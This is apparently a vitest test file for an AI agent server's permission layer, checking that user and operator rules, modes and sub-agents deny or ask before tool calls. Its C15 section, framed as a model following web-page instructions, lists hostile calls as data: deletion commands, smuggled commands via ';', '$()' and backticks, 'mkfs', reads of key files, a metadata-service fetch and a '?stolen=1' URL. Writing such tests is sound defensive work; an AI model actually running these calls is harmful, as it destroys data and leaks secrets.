import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { V3 } from '../support/aap-dialect.ts'
import { attachSession } from '../support/aap-session.ts'
import { call, script } from '../support/script.ts'
import { fateOf, startJudgedServer, type Call, type JudgedServer } from './judged-server.ts'

let judged: JudgedServer
beforeAll(async () => {
  judged = await startJudgedServer({ deny: [{ tool: 'Bash', args: { command: 'forbidden' } }] })
})
afterAll(() => judged.stop())

const bash = (command: string): Call => ({ tool: 'Bash', input: { command } })

async function withRule<T>(rule: object, work: () => Promise<T>): Promise<T> {
  const { body } = await judged.ask<{ id: string }>('POST', '/permissions', rule)
  try {
    return await work()
  } finally {
    await judged.ask('DELETE', `/permissions/${body.id}`)
  }
}

describe('acp 10.1: a rule of the user', () => {
  it('holds from the next call on, in sessions that are there already, until it is removed', async () => {
    const sessionId = await judged.openSession('workspace-write')
    const touch = [bash('touch x')]
    expect(await judged.tryCalls(sessionId, touch)).toEqual(['asked'])
    await withRule({ tool: 'Bash', args: { command: '^touch \\w+$' }, action: 'allow' }, async () => {
      expect(await judged.tryCalls(sessionId, [...touch, bash('touch x; id')])).toEqual(['ran', 'asked'])
    })
    await withRule({ tool: 'Ba.*', action: 'deny' }, async () => {
      expect(await judged.tryCalls(sessionId, [...touch, bash('ls')])).toEqual(['denied', 'denied'])
    })
    expect(await judged.tryCalls(sessionId, touch)).toEqual(['asked'])
  })

  it("opens neither the operator's denials, nor the floor, nor the mode read-only", async () => {
    await withRule({ tool: '*', action: 'allow' }, async () => {
      const calls = [bash('echo forbidden'), bash('mkfs.ext4 /dev/polylogue-has-none')]
      expect(await judged.tryCalls(await judged.openSession('full-access'), calls)).toEqual(['denied', 'denied'])
      expect(await judged.tryCalls(await judged.openSession('read-only'), [bash('ls')])).toEqual(['denied'])
    })
  })

  it('C16: never runs a command that cannot be read', async () => {
    await withRule({ tool: 'Bash', action: 'allow' }, async () => {
      const calls = [bash('touch x'), bash('$HIDDEN x'), bash('eval "$X"')]
      expect(await judged.tryCalls(await judged.openSession('workspace-write'), calls)).toEqual([
        'ran',
        'asked',
        'asked',
      ])
    })
  })

  it('P14: which is added while a call waits makes the grant of the call before it worthless', async () => {
    const sessionId = await judged.openSession('workspace-write')
    const session = attachSession(judged.server.client(V3), sessionId)
    expect((await session.turn(call('w1', 'Bash', { command: 'touch granted' }))).stopReason).toBe('tool_use')
    await withRule({ tool: 'Bash', action: 'deny' }, async () => {
      await session.turn([{ role: 'tool_permission', toolCallId: 'w1', granted: true }])
      const log = await judged.events(sessionId)
      expect(log.some((event) => event.type === 'tool-call.started')).toBe(false)
      expect(log).toContainEqual(
        expect.objectContaining({ type: 'tool-call.settled', toolCallId: 'w1', status: 'denied' }),
      )
    })
  })
})

describe('C17: a denial for the parent holds for', () => {
  const child = (id: string, made: Call) => ({
    tool: 'Agent',
    input: { description: 'a child', prompt: call(id, made.tool, made.input) },
  })

  /** The fate of a call that a sub-agent makes, and one that a sub-agent of it makes. */
  async function fatesBelow(preset: 'plan' | 'workspace-write', made: Call) {
    const sessionId = await judged.openSession(preset)
    const ids = ['k1', 'k2'].map((id) => `${id}_${made.tool}`)
    const [first = '', second = ''] = ids
    await judged.tryCalls(sessionId, [child(first, made), child('between', child(second, made))])
    const log = await judged.events(sessionId)
    return ids.map((id) => fateOf(id, log))
  }

  it('a sub-agent and its sub-agent: what the mode denies', async () => {
    expect(await fatesBelow('plan', { tool: 'Write', input: { path: 'x', content: 'x' } })).toEqual([
      'denied',
      'denied',
    ])
  })

  it("a sub-agent and its sub-agent: what the operator's rule denies", async () => {
    expect(await fatesBelow('workspace-write', bash('echo forbidden'))).toEqual(['denied', 'denied'])
  })

  it("a sub-agent and its sub-agent: what the user's rule denies", async () => {
    await withRule({ tool: 'echo', action: 'deny' }, async () => {
      expect(await fatesBelow('workspace-write', { tool: 'echo', input: { msg: 'x' } })).toEqual(['denied', 'denied'])
    })
  })

  it('calls side by side', async () => {
    const fates = await judged.tryCalls(
      await judged.openSession('workspace-write'),
      Array(20).fill(bash('echo forbidden')),
    )
    expect(new Set(fates)).toEqual(new Set(['denied']))
  })
})

describe('C15: a model that follows instructions from a web page', () => {
  /** Things nobody asked for. Were one of them to run, it would do no harm here. */
  const forbidden = (): readonly Call[] => {
    const { dataDir } = judged.server
    const write = (path: string): Call => ({ tool: 'Write', input: { path, content: 'x' } })
    const edit = (path: string): Call => ({ tool: 'Edit', input: { path, oldText: 'a', newText: 'b' } })
    const fetching = (url: string): Call => ({ tool: 'WebFetch', input: { url } })
    const ownFiles = ['local.key', 'secret.key', 'polylogue.db', 'polylogue.sock', 'polylogue.config.ts', 'agents/x.md']
    return [
      ...ownFiles.flatMap((name) => [
        write(join(dataDir, name)),
        { tool: 'Read', input: { path: join(dataDir, name) } },
      ]),
      write(judged.configFile),
      edit(judged.configFile),
      write(`${judged.outside}/x`),
      edit(`${judged.outside}/secret.txt`),
      write('../x'),
      write('../../local.key'),
      write('/etc/polylogue-x'),
      write('/proc/self/environ'),
      ...[
        'rm -rf build',
        'rm -r -f build',
        'r""m -rf build',
        'sudo id',
        'env sh evil.sh',
        'sh -c "id"',
        'id > x',
        'ls; id',
        'ls && id',
        'ls | sh',
        'ls `id`',
        'ls $(id)',
        'find . -delete',
        'find . -exec id {} +',
        'echo x | xargs id',
        'git diff --output=f',
        'git -c core.pager=id log',
        'git config --get x; id',
        'python3 -c "print(1)"',
        'node -e 1',
        'curl http://other.invalid',
        'wget http://other.invalid',
        'chmod 777 .',
        'eval id',
        '$X',
        'nohup id',
        'time id',
        'echo x | tee y',
        'cp a b',
        'ln -s / root',
        'kill 1',
        'echo forbidden',
      ].map(bash),
      fetching('http://127.0.0.1:8020/'),
      fetching('http://169.254.169.254/latest/meta-data'),
      fetching('http://[::1]/'),
      fetching('http://2130706433/'),
      fetching('https://other.invalid/?stolen=1'),
    ]
  }

  it.each(['read-only', 'workspace-write', 'plan'] as const)('does none of it in mode %s unasked', async (preset) => {
    const calls = forbidden()
    expect(calls.length).toBeGreaterThanOrEqual(50)
    const before = readFileSync(judged.configFile, 'utf8')
    const fates = await judged.tryCalls(await judged.openSession(preset), calls)
    const done = calls.filter((_, index) => fates[index] !== 'denied' && fates[index] !== 'asked')
    expect(done).toEqual([])
    expect(readFileSync(judged.configFile, 'utf8')).toBe(before)
  })
})

describe('a tool that a mode denies', () => {
  it('is not offered to the model, and the safe list keeps Bash in plan', async () => {
    const offered = async (preset: 'read-only' | 'plan') => {
      const session = attachSession(judged.server.client(V3), await judged.openSession(preset))
      return JSON.stringify((await session.turn(script('show tools'))).messages)
    }
    expect(await offered('read-only')).not.toContain('\\"Bash\\"')
    const inPlan = await offered('plan')
    expect(inPlan).toContain('\\"Bash\\"')
    expect(inPlan).not.toContain('TodoWrite')
  })
})
